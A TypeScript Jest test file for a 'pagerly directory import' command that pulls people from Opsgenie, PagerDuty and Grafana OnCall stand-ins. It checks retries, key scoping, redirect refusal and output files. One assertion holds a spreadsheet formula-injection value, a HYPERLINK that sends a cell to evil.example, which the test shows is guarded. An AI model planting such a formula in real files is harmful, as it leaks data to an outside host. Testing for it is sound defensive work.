import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { readSyncFile } from '../../shared/directory-sync/read-file.ts';
import { validateRows } from '../../shared/directory-sync/validate-rows.ts';
import { SOURCE_IDS, SOURCES, type SourceId } from '../../shared/directory-import/sources.ts';
import { grafanaOnCall, ONCALL_PREFIX, oncallRateLimited } from '../support/source-stand-ins/grafana-oncall.ts';
import { opsgenie, opsgenieRateLimited } from '../support/source-stand-ins/opsgenie.ts';
import { expectedDirectory, makeOrg } from '../support/source-stand-ins/org.ts';
import { pagerduty, pagerdutyRateLimited } from '../support/source-stand-ins/pagerduty.ts';
import { type Answer, cutOff, fault, send, startStandIn, type Vendor } from '../support/source-stand-ins/stand-in.ts';
import { LIST_PATH, runImport, SOURCE_KEYS, sourceEnv, standInFor, tempFolder } from './import-support.ts';
import { KEYS, run } from './support.ts';

/**
 * `pagerly directory import` against stand-ins of the three vendors' user APIs, built from their
 * references (test/support/source-stand-ins/): every page read, the file read back by the sync's
 * own reader exact, the key only in the vendor's header and only to the configured base, a wrong
 * or missing key named, 429 (with and without the vendor's wait) and 5xx survived, and nothing
 * written by an import that failed.
 */

const folder = tempFolder();
afterAll(() => folder.remove());

const ORG_SIZE = 230;
const orgs = Object.fromEntries(SOURCE_IDS.map((source) => [source, makeOrg(ORG_SIZE, source)])) as Record<SourceId, ReturnType<typeof makeOrg>>;

/** The rows the sync reads from a people file, by e-mail. */
function syncRows(path: string) {
  const read = readSyncFile(path);
  if (!read.ok) throw new Error(JSON.stringify(read.problems));
  const validation = validateRows(read.rows, read.columns, read.problems);
  if (!validation.ok) throw new Error(JSON.stringify(validation.problems.slice(0, 5)));
  return new Map(validation.rows.map((row) => [row.email, row.remove ? undefined : { name: row.name, phone: row.phone ?? null, role: row.role }]));
}

/** The same stand-in with each answer to a list request changed by `edit`. */
function editingPages(vendor: Vendor, source: SourceId, edit: (body: Record<string, unknown>, url: URL, origin: string) => Record<string, unknown>): Vendor {
  return {
    ...vendor,
    route(seen, origin) {
      const answer = vendor.route(seen, origin);
      if (seen.url.pathname !== LIST_PATH[source] || answer.status !== 200) return answer;
      return { ...answer, body: edit(answer.body as Record<string, unknown>, seen.url, origin) };
    },
  };
}

const rateLimited: Record<SourceId, (waitSeconds?: number) => Answer> = {
  opsgenie: (wait) => opsgenieRateLimited(wait === undefined ? {} : { 'x-ratelimit-period-in-sec': String(wait) }),
  pagerduty: (wait) =>
    pagerdutyRateLimited(wait === undefined ? {} : { 'ratelimit-limit': '960', 'ratelimit-remaining': '0', 'ratelimit-reset': String(wait) }),
  'grafana-oncall': (wait) => oncallRateLimited(wait),
};

const isList = (source: SourceId) => (seen: { url: URL }) => seen.url.pathname === LIST_PATH[source];
const secondPage = (source: SourceId) => (seen: { url: URL }) =>
  isList(source)(seen) && (seen.url.searchParams.get('offset') === '100' || seen.url.searchParams.get('page') === '2');

describe.each(SOURCE_IDS.map((source) => [SOURCES[source].name, source] as const))('%s', (name, source) => {
  const org = orgs[source];
  const about = SOURCES[source];

  it('reads every page and writes what the sync reads back: each active person, exact', async () => {
    const standIn = await standInFor(source, org);
    try {
      const out = folder.path(`${source}.yaml`);
      const r = await runImport(source, standIn, out);
      expect(r.code).toBe(0);
      expect(r.stderr).toBe('');
      const pages = standIn.requests.filter(isList(source)).length;
      expect(pages).toBeGreaterThanOrEqual(3);
      expect(r.stdout).toContain(`Read ${ORG_SIZE} people from ${name}`);
      expect(r.stdout).toContain(`${pages} pages`);
      expect(Object.fromEntries(syncRows(out))).toEqual(Object.fromEntries(expectedDirectory(org, source)));

      // The same people again: the same bytes (no date, a stable order), so a scheduled run opens no empty pull request.
      const again = await runImport(source, standIn, out);
      expect(again.file).toBe(r.file);
    } finally {
      await standIn.close();
    }
  });

  it('CSV too, read back exact by the same reader', async () => {
    const standIn = await standInFor(source, org);
    try {
      const out = folder.path(`${source}.csv`);
      const r = await runImport(source, standIn, out);
      expect(r.code).toBe(0);
      expect(r.file!.startsWith('\uFEFFemail,name,')).toBe(true);
      expect(Object.fromEntries(syncRows(out))).toEqual(Object.fromEntries(expectedDirectory(org, source)));
      // A formula-like name is guarded for spreadsheets, and read back without the guard.
      expect(r.file).toContain(`"'=HYPERLINK(""https://evil.example/?""&A2,""x"")"`);
    } finally {
      await standIn.close();
    }
  });

  it("sends the key only in the vendor's header, only to the configured base", async () => {
    const standIn = await standInFor(source, org.slice(0, 30));
    try {
      // The Pagerly key set beside it goes nowhere: the import does not read it.
      const r = await runImport(source, standIn, folder.path(`${source}-headers.yaml`), [], { PAGERLY_API_KEY: KEYS.admin });
      expect(r.code).toBe(0);
      const key = SOURCE_KEYS[source];
      const header = source === 'opsgenie' ? `GenieKey ${key}` : source === 'pagerduty' ? `Token token=${key}` : key;
      for (const seen of standIn.requests) {
        expect(seen.headers.authorization).toBe(header);
        expect(seen.headers['x-apikey']).toBeUndefined();
        expect(JSON.stringify(seen.headers)).not.toContain(KEYS.admin);
        if (source === 'pagerduty') expect(seen.headers.accept).toBe('application/vnd.pagerduty+json;version=2');
        expect(seen.url.href.startsWith(sourceEnv(source, standIn.url)[about.urlVariable]!)).toBe(true);
      }
    } finally {
      await standIn.close();
    }
  });

  it('a wrong key exits 3 naming the variable, and the file there is left as it was', async () => {
    const standIn = await standInFor(source, org);
    try {
      const out = folder.path(`${source}-wrong-key.yaml`);
      writeFileSync(out, 'the old file\n');
      const r = await run(['directory', 'import', source, '--out', out], { env: sourceEnv(source, standIn.url, `${SOURCE_KEYS[source]}-wrong`) });
      expect(r.code).toBe(3);
      expect(r.stdout).toBe('');
      // Each vendor's own answer: Opsgenie's to a key not of its format, Grafana OnCall's engine's 403.
      const status = { opsgenie: 422, pagerduty: 401, 'grafana-oncall': 403 }[source];
      expect(r.stderr).toContain(`refused the key in ${about.keyVariable} (HTTP ${status}`);
      expect(r.stderr).toContain('Nothing was written');
      expect(readFileSync(out, 'utf8')).toBe('the old file\n');
      expect(standIn.requests).toHaveLength(1);
    } finally {
      await standIn.close();
    }
  });

  it('a missing key exits 3 naming the variable, before any request; --json says so on stderr', async () => {
    const standIn = await standInFor(source, org);
    try {
      const out = folder.path(`${source}-no-key.yaml`);
      const r = await run(['directory', 'import', source, '--out', out, '--json'], { env: sourceEnv(source, standIn.url, null) });
      expect(r.code).toBe(3);
      expect(r.errorJson().error).toMatchObject({ code: 'authentication', exitCode: 3 });
      expect(r.errorJson().error.message).toContain(`${about.keyVariable} is not set`);
      expect(standIn.requests).toHaveLength(0);
      expect(() => statSync(out)).toThrow();
    } finally {
      await standIn.close();
    }
  });

  it("survives a 429 without a wait (backoff) and one with the vendor's own wait header", async () => {
    const standIn = await standInFor(source, org, {
      faults: [
        fault(secondPage(source), 1, (response) => send(response, rateLimited[source]())),
        fault(secondPage(source), 1, (response) => send(response, rateLimited[source](2))),
      ],
    });
    try {
      const out = folder.path(`${source}-429.yaml`);
      const r = await runImport(source, standIn, out);
      expect(r.code).toBe(0);
      expect(r.stderr).toBe(`Rate limited by ${name}; retrying in 1 s (attempt 2 of 7)…\nRate limited by ${name}; retrying in 2 s (attempt 3 of 7)…\n`);
      expect(Object.fromEntries(syncRows(out))).toEqual(Object.fromEntries(expectedDirectory(org, source)));
    } finally {
      await standIn.close();
    }
  }, 20_000);

  it('a 429 that does not end exits 75 (run it again), nothing written', async () => {
    const standIn = await standInFor(source, org, {
      faults: [fault(secondPage(source), Number.POSITIVE_INFINITY, (response) => send(response, rateLimited[source](0)))],
    });
    try {
      const out = folder.path(`${source}-429-always.yaml`);
      const r = await runImport(source, standIn, out, ['--retries', '2', '--json']);
      expect(r.code).toBe(75);
      expect(r.errorJson().error).toMatchObject({ code: 'rate_limited', retryable: true, exitCode: 75, status: 429 });
      expect(r.file).toBeUndefined();
    } finally {
      await standIn.close();
    }
  });

  it('a 5xx is retried; one that lasts exits 75, nothing written', async () => {
    const once = await standInFor(source, org, {
      faults: [fault(secondPage(source), 1, (response) => send(response, { status: 503, body: 'upstream unavailable' }))],
    });
    try {
      const r = await runImport(source, once, folder.path(`${source}-503.yaml`));
      expect(r.code).toBe(0);
      expect(r.stderr).toContain(`${name} answered HTTP 503; retrying in 1 s`);
    } finally {
      await once.close();
    }
    const always = await standInFor(source, org, {
      faults: [fault(secondPage(source), Number.POSITIVE_INFINITY, (response) => send(response, { status: 500, body: '' }))],
    });
    try {
      const r = await runImport(source, always, folder.path(`${source}-500.yaml`), ['--retries', '1']);
      expect(r.code).toBe(75);
      expect(r.stderr).toContain(`${name} answered "list users" with HTTP 500`);
      expect(r.file).toBeUndefined();
    } finally {
      await always.close();
    }
  }, 20_000);

  it('a body cut off is read again; one always cut off exits 75, nothing written', async () => {
    const body = JSON.stringify({ data: [], users: [], results: [] });
    const once = await standInFor(source, org, { faults: [fault(secondPage(source), 1, (response) => cutOff(response, body))] });
    try {
      const r = await runImport(source, once, folder.path(`${source}-cut.yaml`));
      expect(r.code).toBe(0);
      expect(r.stderr).toMatch(new RegExp(`No answer from ${name} \\(ERR_HTTP_CONTENT_LENGTH_MISMATCH\\); retrying`));
    } finally {
      await once.close();
    }
    const always = await standInFor(source, org, { faults: [fault(secondPage(source), Number.POSITIVE_INFINITY, (response) => cutOff(response, body))] });
    try {
      const r = await runImport(source, always, folder.path(`${source}-cut-always.yaml`), ['--retries', '1']);
      expect(r.code).toBe(75);
      expect(r.file).toBeUndefined();
    } finally {
      await always.close();
    }
  }, 20_000);

  it('a complete answer that is not JSON exits 1, nothing written', async () => {
    const standIn = await standInFor(source, org, {
      faults: [fault(secondPage(source), 1, (response) => send(response, { status: 200, body: '{"data": [' }))],
    });
    try {
      const r = await runImport(source, standIn, folder.path(`${source}-not-json.yaml`));
      expect(r.code).toBe(1);
      expect(r.stderr).toContain(`${name} gave an answer the import cannot read: its answer to "list users" is not JSON`);
      expect(r.file).toBeUndefined();
    } finally {
      await standIn.close();
    }
  });

  it('a redirect to another host is not followed: exit 78, the other host gets nothing', async () => {
    const other = await standInFor(source, org);
    const standIn = await standInFor(source, org, {
      faults: [
        fault(secondPage(source), 1, (response, seen) => response.writeHead(302, { location: `${other.url}${seen.url.pathname}${seen.url.search}` }).end()),
      ],
    });
    try {
      const r = await runImport(source, standIn, folder.path(`${source}-redirect.yaml`));
      expect(r.code).toBe(78);
      expect(r.stderr).toContain('a redirect to 127.0.0.1:');
      expect(r.stderr).toContain(`goes only to ${standIn.url}`);
      expect(other.requests).toHaveLength(0);
      expect(r.file).toBeUndefined();
    } finally {
      await Promise.all([standIn.close(), other.close()]);
    }
  });

  it('--json: one document with the counts, the roles, who was skipped and why', async () => {
    const standIn = await standInFor(source, org);
    try {
      const out = folder.path(`${source}-json.yaml`);
      const r = await runImport(source, standIn, out, ['--json']);
      expect(r.code).toBe(0);
      expect(r.stderr).toBe('');
      const doc = r.json();
      const expected = expectedDirectory(org, source);
      expect(doc).toMatchObject({
        source,
        file: out,
        format: 'yaml',
        summary: { listed: ORG_SIZE, written: expected.size, skipped: ORG_SIZE - expected.size },
      });
      expect(doc.summary.pages).toBe(standIn.requests.filter(isList(source)).length);
      expect(doc.summary.requests).toBe(standIn.requests.length);
      expect(doc.roles.filter((role: { to: string }) => role.to === 'admin').map((role: { from: string }) => role.from.toLowerCase())).toEqual(
        expect.arrayContaining(source === 'grafana-oncall' ? ['admin'] : ['admin', 'owner']),
      );
      for (const role of doc.roles) if (role.to === 'admin') expect(['owner', 'admin']).toContain(role.from.toLowerCase());
      expect(doc.skipped.length).toBe(doc.summary.skipped);
      if (source === 'grafana-oncall') {
        expect(doc.summary).toMatchObject({ phonesFound: null, phonesMissing: null });
        expect(doc.notes.join(' ')).toContain('gives no display names and no phone numbers');
      } else {
        expect(doc.summary.phonesFound + doc.summary.phonesMissing).toBe(expected.size);
        expect(doc.summary.phonesFound).toBe([...expected.values()].filter((entry) => entry.phone !== null).length);
        expect(doc.severalNumbers.length).toBeGreaterThan(0);
        expect(doc.severalNumbers[0]).toMatchObject({ how: 'sms, enabled', notTaken: [{ how: expect.stringMatching(/^voice, disabled/) }] });
      }
    } finally {
      await standIn.close();
    }
  });

  it('--debug traces each request on stderr, the key shown nowhere', async () => {
    const standIn = await standInFor(source, org.slice(0, 5));
    try {
      const r = await runImport(source, standIn, folder.path(`${source}-debug.yaml`), ['--debug']);
      expect(r.code).toBe(0);
      expect(r.stderr).toMatch(
        new RegExp(`^pagerly-debug: \\* GET ${standIn.url.replace(/\./g, '\\.')}\\S*${LIST_PATH[source].replace(/\//g, '\\/')}\\S* 200 `, 'm'),
      );
      expect(r.stderr).toContain('pagerly-debug: > authorization: [redacted]');
    } finally {
      await standIn.close();
    }
  });

  it('negative and absurd totals are ignored; a name of 10 MB is skipped, saying why, and the others written', async () => {
    const huge = { ...org[1]!, name: 'x'.repeat(10 * 1024 * 1024) };
    const people = [org[0]!, huge, ...org.slice(2, 20)];
    const base =
      source === 'opsgenie'
        ? opsgenie(people, SOURCE_KEYS[source])
        : source === 'pagerduty'
          ? pagerduty(people, SOURCE_KEYS[source])
          : grafanaOnCall(people, SOURCE_KEYS[source]);
    const absurd = editingPages(base, source, (body) => ({ ...body, totalCount: -5, total: -5, count: Number.MAX_VALUE }));
    const standIn = await startStandIn(absurd);
    try {
      const r = await runImport(source, standIn, folder.path(`${source}-absurd.yaml`), ['--json']);
      expect(r.code).toBe(0);
      const doc = r.json();
      expect(doc.skipped).toContainEqual({ id: huge.id, email: huge.email, reason: 'unusable', why: 'name is longer than 200 characters' });
      expect(doc.summary.written).toBe(expectedDirectory(people, source).size - 1);
    } finally {
      await standIn.close();
    }
  }, 30_000);
});

describe('paging that never ends, or leaves the base', () => {
  it.each(['opsgenie', 'grafana-oncall'] as const)('%s: a next link back to a page already read is a loop: exit 1, nothing written', async (source) => {
    const vendor = editingPages(vendorFor(source), source, (body, url, origin) =>
      url.searchParams.get('offset') === '100' || url.searchParams.get('page') === '2'
        ? source === 'opsgenie'
          ? { ...body, paging: { next: `${origin}/v2/users?limit=100&offset=0` } }
          : { ...body, next: `${origin}${ONCALL_PREFIX}/api/v1/users/` }
        : body,
    );
    const standIn = await startStandIn(vendor);
    try {
      const r = await runImport(source, standIn, folder.path(`${source}-loop.yaml`));
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('would ask again for a page already read');
      expect(r.file).toBeUndefined();
      expect(standIn.requests.filter(isList(source))).toHaveLength(2);
    } finally {
      await standIn.close();
    }
  });

  it.each(['opsgenie', 'grafana-oncall'] as const)(
    '%s: a next link to another host is not followed: its page is asked of the base, the other host gets nothing, and the summary says so',
    async (source) => {
      const elsewhere = await standInFor(source, orgs[source]);
      // Every link names the other host, as an engine behind a proxy writes its own base URL (or a hostile answer would).
      const vendor = editingPages(vendorFor(source), source, (body) => {
        const moved = (link: unknown) => (typeof link === 'string' ? link.replace(/^http:\/\/127\.0\.0\.1:\d+/, elsewhere.url) : link);
        return source === 'opsgenie'
          ? { ...body, paging: { ...(body['paging'] as object), next: moved((body['paging'] as { next?: string }).next) } }
          : { ...body, next: moved(body['next']) };
      });
      const standIn = await startStandIn(vendor);
      try {
        const out = folder.path(`${source}-elsewhere.yaml`);
        const r = await runImport(source, standIn, out, ['--json']);
        expect(r.code).toBe(0);
        expect(elsewhere.requests).toHaveLength(0);
        expect(standIn.requests.filter(isList(source)).length).toBeGreaterThanOrEqual(3);
        expect(Object.fromEntries(syncRows(out))).toEqual(Object.fromEntries(expectedDirectory(orgs[source], source)));
        const list = `${standIn.url}${LIST_PATH[source]}`;
        expect(r.json().notes).toContain(
          `${SOURCES[source].name}'s ${source === 'opsgenie' ? 'paging.next' : 'next'} pointed to ${elsewhere.url}${LIST_PATH[source]}, not to ${list}: each next page was asked of ${list} with the link's query instead, so the key in ${SOURCES[source].keyVariable} went nowhere else.`,
        );
      } finally {
        await Promise.all([standIn.close(), elsewhere.close()]);
      }
    },
  );

  it.each(SOURCE_IDS)('%s: a source that gives the same people on every page is not paging: exit 1', async (source) => {
    const vendor = vendorFor(source);
    const stuck: Vendor = {
      ...vendor,
      route(seen, origin) {
        if (seen.url.pathname !== LIST_PATH[source]) return vendor.route(seen, origin);
        const first = new URL(seen.url);
        first.searchParams.set('offset', '0');
        first.searchParams.delete('page');
        const answer = vendor.route({ ...seen, url: first }, origin);
        const body = answer.body as Record<string, unknown>;
        // The links and counts still move on: only the people stay the same.
        const real = vendor.route(seen, origin).body as Record<string, unknown>;
        return { ...answer, body: { ...body, paging: real['paging'], next: real['next'], more: real['more'] } };
      },
    };
    const standIn = await startStandIn(stuck);
    try {
      const r = await runImport(source, standIn, folder.path(`${source}-stuck.yaml`));
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('gave only people already read on earlier pages: the source is not paging');
      expect(r.file).toBeUndefined();
    } finally {
      await standIn.close();
    }
  });

  it('a page of more people than any directory has is refused: exit 1, nothing written', async () => {
    const many = makeOrg(100_001, 'grafana-oncall');
    const standIn = await startStandIn(grafanaOnCall(many, SOURCE_KEYS['grafana-oncall'], { pageSize: 100_001 }));
    try {
      const r = await runImport('grafana-oncall', standIn, folder.path('too-many.yaml'));
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('listed more than 100000 people');
      expect(r.file).toBeUndefined();
    } finally {
      await standIn.close();
    }
  }, 60_000);
});

function vendorFor(source: SourceId): Vendor {
  return source === 'opsgenie'
    ? opsgenie(orgs.opsgenie, SOURCE_KEYS.opsgenie)
    : source === 'pagerduty'
      ? pagerduty(orgs.pagerduty, SOURCE_KEYS.pagerduty)
      : grafanaOnCall(orgs['grafana-oncall'], SOURCE_KEYS['grafana-oncall']);
}

describe('usage', () => {
  let standIn: Awaited<ReturnType<typeof standInFor>>;
  beforeAll(async () => {
    standIn = await standInFor('pagerduty', orgs.pagerduty);
  });
  afterAll(() => standIn.close());

  it('--out must be .yaml, .yml or .csv, in a folder that exists: exit 2 before any request', async () => {
    for (const out of [folder.path('people.json'), folder.path('no-such-folder/people.yaml'), folder.path('')]) {
      const r = await runImport('pagerduty', standIn, out);
      expect(r.code).toBe(2);
    }
    expect(standIn.requests).toHaveLength(0);
  });

  it('an unknown source is bad usage, listing the sources', async () => {
    const r = await run(['directory', 'import', 'victorops', '--out', folder.path('x.yaml')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('Allowed choices are opsgenie, pagerduty, grafana-oncall');
  });

  it('a base that is not an http(s) URL is bad usage naming the variable; Grafana OnCall needs one', async () => {
    const r = await run(['directory', 'import', 'opsgenie', '--out', folder.path('x.yaml')], {
      env: { OPSGENIE_API_KEY: SOURCE_KEYS.opsgenie, OPSGENIE_API_URL: 'ftp://x' },
    });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('OPSGENIE_API_URL must be an http or https URL, e.g. https://api.opsgenie.com');
    const none = await run(['directory', 'import', 'grafana-oncall', '--out', folder.path('x.yaml')], {
      env: { GRAFANA_ONCALL_API_TOKEN: SOURCE_KEYS['grafana-oncall'] },
    });
    expect(none.code).toBe(2);
    expect(none.stderr).toContain('GRAFANA_ONCALL_API_URL is not set');
  });
});
